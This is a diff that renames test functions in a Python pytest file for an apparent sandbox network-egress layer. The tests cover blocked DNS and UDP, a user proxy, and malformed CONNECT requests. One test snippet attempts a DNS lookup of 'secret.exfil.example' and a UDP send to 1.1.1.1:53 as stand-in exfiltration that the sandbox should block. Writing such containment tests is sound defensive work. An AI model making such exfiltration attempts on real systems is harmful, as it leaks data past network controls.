@@ -101,7 +101,7 @@ found = [connect(socket.AF_INET, {near!r}), connect(socket.AF_INET, ({own!r}, {p
         assert [first, second, third] == [[], [], []]
 
 
-def test_names_cannot_be_asked_for_and_nothing_leaves_with_the_question(tmp_path: Path) -> None:
+def test_the_sandbox_has_no_dns_and_no_datagrams(tmp_path: Path) -> None:
     code = """
 found = [attempt(lambda: socket.getaddrinfo("secret.exfil.example", 443)),
          attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))]
@@ -226,7 +226,7 @@ def test_a_name_that_leads_home_is_not_dialled(
     ("answer", "status"),
     [(b"HTTP/1.1 200 OK\r\n\r\n", b"200"), (b"HTTP/1.1 407 Login\r\n\r\n", b"502"), (b"", b"502")],
 )
-def test_behind_a_proxy_of_the_users_that_one_is_asked(tmp_path: Path, answer: bytes, status: bytes) -> None:
+def test_with_a_user_proxy_connections_go_through_it(tmp_path: Path, answer: bytes, status: bytes) -> None:
     asked: list[bytes] = []
 
     async def proxy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -249,7 +249,7 @@ def test_behind_a_proxy_of_the_users_that_one_is_asked(tmp_path: Path, answer: b
 
 
 @pytest.mark.parametrize("sent", [b"", b"CONNECT", b"x" * 100_000, b"CONNECT github.com:443\r\n\r\n"])
-def test_whoever_cannot_ask_is_sent_away(tmp_path: Path, sent: bytes) -> None:
+def test_a_malformed_connect_request_is_refused(tmp_path: Path, sent: bytes) -> None:
     async def main() -> bytes:
         async with door(tmp_path, dial) as (reader, writer):
             writer.write(sent)
@@ -276,7 +276,7 @@ def test_leaving_closes_what_is_still_open(tmp_path: Path) -> None:
     run(main())
 
 
-def test_a_folder_whose_path_is_too_long_for_a_socket_is_told(tmp_path: Path) -> None:
+def test_a_folder_whose_path_is_too_long_for_a_socket_is_an_error(tmp_path: Path) -> None:
     async def main() -> None:
         async with egress(str(tmp_path / ("x" * 120)), {}):
             pass
